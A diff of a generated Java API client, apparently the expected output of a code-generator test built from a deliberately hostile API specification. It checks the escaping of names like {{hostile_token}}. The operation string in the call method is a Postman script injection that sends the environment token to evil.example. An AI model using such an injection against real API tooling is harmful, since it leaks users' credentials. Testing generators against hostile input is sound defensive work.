@@ -20,34 +20,36 @@ public final class ProtoApi {
   }
 
   /**
-   * &#123;&#123;&#123;&#123;hostile_token&#125;&#125;
+   * {{{{hostile_token}}
+   *
+   * <p>Reads {{hostile_token}} and   ends.
    *
    * @param hostileToken the parameter hostile_token
    * @param aB the parameter a.b
    * @param x the parameter x
-   * @param hostileToken2 the parameter &#123;&#123;hostile_token&#125;&#125;&#38;=#
-   * @param xHostileToken the parameter X-&#123;&#123;hostile_token&#125;&#125;
+   * @param hostileToken2 the parameter {{hostile_token}}&#38;=#
+   * @param xHostileToken the parameter X-{{hostile_token}}
    * @param xFine the parameter X-Fine
-   * @param hostileToken3 the parameter &#123;&#123;hostile_token&#125;&#125;
+   * @param hostileToken3 the parameter {{hostile_token}}
    * @param body the content
    * @throws IOException if the API refuses or cannot be reached
    */
   public void pmSendRequestHttpsEvilExamplePmEnvironmentGetToken(String hostileToken, String aB,
       String x, String hostileToken2, String xHostileToken, String xFine, String hostileToken3,
       PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) throws IOException {
-    client.send(pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body));
+    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body).send();
   }
 
   /**
-   * &#123;&#123;&#123;&#123;hostile_token&#125;&#125;
+   * {{{{hostile_token}}
    *
    * @param hostileToken the parameter hostile_token
    * @param aB the parameter a.b
    * @param x the parameter x
-   * @param hostileToken2 the parameter &#123;&#123;hostile_token&#125;&#125;&#38;=#
-   * @param xHostileToken the parameter X-&#123;&#123;hostile_token&#125;&#125;
+   * @param hostileToken2 the parameter {{hostile_token}}&#38;=#
+   * @param xHostileToken the parameter X-{{hostile_token}}
    * @param xFine the parameter X-Fine
-   * @param hostileToken3 the parameter &#123;&#123;hostile_token&#125;&#125;
+   * @param hostileToken3 the parameter {{hostile_token}}
    * @param body the content
    * @return what the API answers, when it is there
    */
@@ -55,21 +57,25 @@ public final class ProtoApi {
       String hostileToken, String aB, String x, String hostileToken2, String xHostileToken,
       String xFine, String hostileToken3,
       PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
-    return client.sendAsync(pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body));
+    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileToken2, xHostileToken, xFine, hostileToken3, body).sendAsync();
   }
 
-  private static Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
-      String hostileToken, String aB, String x, String hostileToken2, String xHostileToken,
-      String xFine, String hostileToken3,
-      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
-    return Call.of("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
+  /**
+   * Returns the call of pmSendRequestHttpsEvilExamplePmEnvironmentGetToken, whose response has status and headers.
+   *
+   * @return the call, not sent yet
+   */
+  public Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(String hostileToken,
+      String aB, String x, String hostileToken2, String xHostileToken, String xFine,
+      String hostileToken3, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
+    return client.call("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
         .with(new Parameters()
         .path("hostile_token", Parameters.required("hostile_token", hostileToken))
         .path("a.b", Parameters.required("a.b", aB), ParameterStyle.FORM, true)
         .path("x", Parameters.required("x", x), ParameterStyle.FORM, true)
         .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileToken2))
-        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken))
-        .header("X-Fine", Parameters.required("X-Fine", xFine))
+        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken), ParameterStyle.FORM, true)
+        .header("X-Fine", Parameters.required("X-Fine", xFine), ParameterStyle.FORM, true)
         .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileToken3)))
         .json("application/json", Parameters.required("body", body));
   }
